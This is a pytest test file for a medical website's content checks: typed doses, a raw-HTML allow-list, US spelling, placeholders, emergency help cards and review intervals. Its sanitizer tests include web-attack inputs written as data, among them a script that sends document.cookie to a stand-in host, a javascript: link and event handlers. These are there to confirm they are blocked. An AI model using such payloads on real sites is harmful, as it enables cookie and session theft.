"""Page rules: typed doses (in the source and in the finished page), raw HTML, spelling,
hand-written danger boxes, placeholders, urgent help first, dose pages' review interval."""

from __future__ import annotations

import pytest

from helpers import TODAY, fixture_site
from medsite.content import html_rules
from medsite.content.markdown_html import MarkdownRenderer
from medsite.content.pipeline import finish_page, prepare_page
from medsite.content.spelling import word_list
from medsite.content.typed_doses import doses_in_output, doses_in_source
from medsite.render.page import blank_references

SITE = fixture_site(urgent_first_pages=["danger.md"])
FRONT = """---
title: A page
description: A page of the fixture site, long enough to be a description of fifty.
type: condition
last_reviewed: 2026-11-25
next_review: 2027-11-25
reviewed_by: Fixture reviewer
sources: [label]
---

"""
MARKDOWN = MarkdownRenderer(["admonition", "attr_list"])


def problems(body: str, uri: str = "page.md", front: str = FRONT) -> list[str]:
    """Every problem of a page through the whole pipeline, as make check and the build see it."""
    text = front + body
    page = prepare_page(text, f"content/{uri}", uri, SITE, SITE.settings, TODAY)
    found = [str(p) for p in page.problems]
    if not page.problems:
        found += [str(p) for p in finish_page(MARKDOWN.html(page.markdown), page, text).problems]
    return found


def test_a_clean_page_has_no_problem() -> None:
    assert problems("Adults start on {{ regimens.adults.starting_dose }}.\n") == []


@pytest.mark.parametrize(("text", "found"), [
    ("take 20 mg", ["20 mg"]), ("take 20mg or 2.5 mL", ["20mg", "2.5 mL"]),
    ("five milligrams", ["five milligrams"]), ("200&nbsp;mg", ["200\u00a0mg"]),
    ("2\u200b00 mg", ["200 mg"]), ("\uff12\uff10 mg", ["20 mg"]),
    ("{{ regimens.adults.max_daily }} a day", []), ("on day 3", []),
])
def test_dose_numbers_typed_into_a_page_are_found_in_any_disguise(text: str,
                                                                  found: list[str]) -> None:
    assert [d.text for d in doses_in_source(blank_references(text), 1)] == [f.replace("\u00a0", " ")
                                                           for f in found]


@pytest.mark.parametrize("unit", [
    "mg", "MG", "mcg", "\u00b5g", "\u03bcg", "\u039cg", "ug", "mL", "ML", "g", "kg", "Kg",
    "micrograms", "Milligram", "grams", "millilitres", "milliliter", "mmol", "units", "unit",
    "mg/kg", "mg / day",
])
def test_every_unit_is_found_in_a_line_and_in_a_finished_page(unit: str) -> None:
    line = f"Some people take 20 {unit} each day."
    assert [d.text for d in doses_in_source(line, 1)] == [f"20 {unit}".replace("\u00b5", "\u03bc")]
    assert doses_in_output(f"<p>{line}</p>") == [f"20 {unit}".replace("\u00b5", "\u03bc")]


def test_the_typed_dose_message_names_the_data_value_that_equals_it() -> None:
    assert problems("Take 5 mg a day at first.\n") == [
        "content/page.md:11: dose number typed into the page: '5 mg'; show it from the data "
        "file instead: {{ regimens.adults.titration_steps[1].dose }} or "
        "{{ regimens.adults.starting_dose.daily }} or "
        "{{ regimens.adults.titration_steps[0].daily }}"]


def test_the_typed_dose_message_says_when_no_value_is_that_number() -> None:
    assert problems("Take 7 mg.\n") == [
        "content/page.md:11: dose number typed into the page: '7 mg'; no value in the data "
        "file is this; add it there with its source (a facts: entry for a single number), "
        "then show it by name"]


def test_the_finished_page_is_checked_for_doses_the_source_check_cannot_see() -> None:
    assert doses_in_output("<p>Take 2<b>0</b> mg</p>") == ["20 mg"]  # reads "20 mg"
    assert doses_in_output("<p>Take 20 <b>mg</b></p>") == ["20 mg"]
    assert doses_in_output("<li>20</li><li>mg</li>") == []  # two list items, not one dose
    assert doses_in_output('<img alt="20 mg">') == ["20 mg"]
    assert doses_in_output('<a href="/baclofen-10-mg/">x</a>') == []


@pytest.mark.parametrize(("body", "message"), [
    pytest.param("<script>fetch('https://x.example/?'+document.cookie)</script>\n",
                 "content/page.md:11: the HTML tag <script> is not allowed in a page",
                 id="script"),
    pytest.param("<svg><image href=\"https://x.example/a.png\"/></svg>\n",
                 "content/page.md:11: the HTML tag <svg> is not allowed in a page", id="svg"),
    pytest.param("<base href=\"https://x.example/\">\n",
                 "content/page.md:11: the HTML tag <base> is not allowed in a page", id="base"),
    pytest.param("<meta http-equiv=\"refresh\" content=\"0;url=https://x.example\">\n",
                 "content/page.md:11: the HTML tag <meta> is not allowed in a page", id="meta"),
    pytest.param("<p style=\"background:image-set('https://x.example/a.png' 1x)\">a</p>\n",
                 "content/page.md:11: styles are not allowed in a page, except a table "
                 "column's text-align", id="style"),
    pytest.param("<p onclick=\"alert(1)\">a</p>\n",
                 "content/page.md:11: event handlers on <p> are not allowed in a page",
                 id="event-handler"),
    pytest.param("![x](https://x.example/a.png)\n",
                 "content/page.md:11: the image 'https://x.example/a.png' loads from another "
                 "host; put the image in the site and link it by a relative path",
                 id="markdown-image"),
    pytest.param("[x](javascript:alert(1))\n",
                 "content/page.md:11: the link address 'javascript:alert(1)' is not allowed; "
                 "link to a page of this site or to an http(s), mailto: or tel: address",
                 id="javascript-link"),
    pytest.param("<div class=\"admonition danger\"><p>Call now</p></div>\n",
                 "content/page.md:11: a hand-written 'danger' box is not allowed; insert a help "
                 "card from the data file: {{ help_card('...') }}", id="fake-danger-box"),
    pytest.param("<!-- a comment -->\n",
                 "content/page.md:11: HTML comments and declarations ('<!', '<?') are not "
                 "allowed; use {## ... ##} for a note to editors", id="comment"),
])
def test_raw_html_outside_the_allow_list_is_refused(body: str, message: str) -> None:
    assert problems(body)[0] == message


def test_whatever_the_check_misses_the_sanitizer_removes() -> None:
    cleaned = html_rules.clean('<p>a<script>x()</script><img src="https://x.example/a.png">'
                               '<a href="javascript:x()" onclick="y()">l</a></p>')
    assert cleaned == "<p>a<img><a>l</a></p>"


def test_a_hand_written_danger_box_is_refused_at_its_line() -> None:
    assert problems("Text.\n\n!!! danger \"Call now\"\n    Call 911.\n") == [
        "content/page.md:13: hand-written 'danger' box; urgent advice comes from the data "
        "file, so insert its help card instead: {{ help_card('...') }}"]


def test_british_spelling_is_refused_on_the_us_edition_at_its_line() -> None:
    assert problems("Line one.\n\nChanges in behaviour.\n") == [
        "content/page.md:13: 'behaviour' is British usage; the US edition writes 'behavior'"]


@pytest.mark.parametrize("entry", sorted(word_list("en-US").replacements))
def test_every_entry_of_the_word_list_is_found_in_any_case_and_across_a_line_break(
        entry: str) -> None:
    words = word_list("en-US")
    capitalized = entry[0].upper() + entry[1:]
    assert [m.found for m in words.find(f"Some text.\n{capitalized} here.")] == [capitalized]
    if " " in entry:
        broken = entry.replace(" ", "\n", 1)
        assert [m.line for m in words.find(f"Text {broken} here.", 5)] == [5]


def test_a_quoted_name_keeps_its_own_spelling() -> None:
    assert word_list("en-US").find('The "Royal College of Paediatrics" says so.') == []


def test_placeholder_text_cannot_be_published() -> None:
    assert problems("[[Write the page here.]]\n") == [
        "content/page.md:11: template placeholder text is still here ('[[Write the page "
        "here....]]'); write the page in your own words before it is published (or keep "
        "'status: draft')"]


def test_a_draft_may_hold_placeholder_text() -> None:
    draft = FRONT.replace("last_reviewed: 2026-11-25\nnext_review: 2027-11-25\nreviewed_by: "
                          "Fixture reviewer\n", "status: draft\n")
    assert problems("[[Write the page here.]]\n", front=draft) == []


def test_on_a_page_about_danger_the_emergency_card_comes_first() -> None:
    body = "## Section\n\nText.\n\n{{ help_card('too_much') }}\n"
    assert problems(body, uri="danger.md") == [
        "content/danger.md:15: move this 'emergency' help card above the first section "
        "heading: on a page about danger it is the first thing a reader in trouble sees"]
    assert problems("{{ help_card('too_much') }}\n\n## Section\n", uri="danger.md") == []


def test_a_page_that_shows_a_dose_is_reviewed_as_often_as_a_dosing_page() -> None:
    three_years = FRONT.replace("next_review: 2027-11-25", "next_review: 2029-11-25")
    assert problems("The most is {{ regimens.adults.max_daily }}.\n", front=three_years) == [
        "content/page.md:6: next_review: this page shows dose values, so it is reviewed at "
        "least every 1 year: set next_review no later than 2027-11-25"]
    assert problems("The window is {{ facts.window }}.\n", front=three_years) == []


def test_a_value_cannot_go_into_a_link_address() -> None:
    assert problems("Intro with {{ medicine }}.\n\n[x]({{ medicine }})\n") == [
        "content/page.md:13: a data reference (examplofen) is inside a link address or "
        "another HTML attribute"]


@pytest.mark.parametrize(("body", "line", "typed"), [
    ("Take 2<span>00</span> mg.", 13, "200 mg"),
    ("Take {{ regimens.adults.max_daily.number }} mg.", 13, "30 mg"),
    ("Take {{ regimens.adults.max_daily.number }}&nbsp;<em>mg</em>.", 13, "30 mg"),
])
def test_a_dose_only_the_built_page_shows_is_reported_at_its_line(body: str, line: int,
                                                                  typed: str) -> None:
    # Line 11 holds a reference too, so the line found is the one the dose was typed on.
    assert problems(f"Adults start on {{{{ regimens.adults.starting_dose }}}}.\n\n{body}\n") == [
        f"content/page.md:{line}: the built page shows a dose number that is not a value "
        f"from the data file: '{typed}'; show it by name from the data file"]
